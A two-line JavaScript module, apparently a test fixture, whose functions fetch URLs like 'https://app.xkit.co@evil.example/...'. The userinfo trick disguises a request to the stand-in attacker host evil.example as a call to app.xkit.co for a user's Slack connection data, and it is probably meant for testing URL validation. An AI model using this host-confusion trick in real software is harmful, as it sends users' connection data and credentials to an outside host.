export const read = (id) => fetch(`https://app.xkit.co@evil.example/api/platform/users/${id}/connections/slack`);
export const readWithPort = (id) => fetch(`https://app.xkit.co:443@evil.example/api/platform/users/${id}/connections/slack`);
